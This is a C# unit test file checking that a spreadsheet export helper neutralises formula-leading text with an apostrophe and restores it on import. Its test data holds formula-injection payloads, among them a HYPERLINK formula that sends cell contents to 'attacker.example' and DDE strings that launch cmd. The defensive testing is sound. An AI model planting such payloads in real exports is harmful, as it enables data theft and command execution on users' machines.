using Ballast.Web.Common.Text;

namespace Ballast.Tests.Security.Exports;

/// <summary>The one function every exporter writes text through: formula-leading text gets an apostrophe,
/// everything else (numbers written as text included) is left as it is, and an import takes it off again.</summary>
public sealed class FormulaTextTests
{
    /// <summary>Each trigger a spreadsheet treats as the start of a formula, with a payload of the kind attackers use.</summary>
    public static TheoryData<string> Dangerous =>
    [
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"详情\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "  =1+1", "\u3000=1+1",
        "-", "+", "=", "@", "-1e5", "-1+2", "- 3",
    ];

    [Theory]
    [MemberData(nameof(Dangerous))]
    public void Formula_leading_text_is_written_with_a_leading_apostrophe_and_read_back_as_it_was(string text)
    {
        var written = FormulaText.Neutralise(text);

        Assert.Equal("'" + text, written);
        Assert.Equal(written, FormulaText.Cell(text));
        Assert.Equal(text, FormulaText.Restore(written));
        Assert.Equal(written, FormulaText.Neutralise(written));
    }

    [Theory]
    [InlineData("青岛西海岸新区项目")]
    [InlineData("-12.30")]
    [InlineData("+5.00")]
    [InlineData("-1,234.5")]
    [InlineData("-3.5%")]
    [InlineData("'80年代老厂房改造")]
    [InlineData("a=b")]
    [InlineData("")]
    [InlineData("   ")]
    [InlineData("—")]
    public void Other_text_is_written_and_read_as_it_is(string text)
    {
        Assert.Equal(text, FormulaText.Neutralise(text));
        Assert.Equal(text, FormulaText.Restore(text));
    }

    [Fact]
    public void Values_that_are_not_text_are_never_touched()
    {
        Assert.Equal(-5.5m, FormulaText.Cell(-5.5m));
        Assert.Equal(-3, FormulaText.Cell(-3));
        Assert.Null(FormulaText.Cell(null));
        var day = new DateOnly(2023, 3, 1);
        Assert.Equal(day, FormulaText.Cell(day));
    }
}
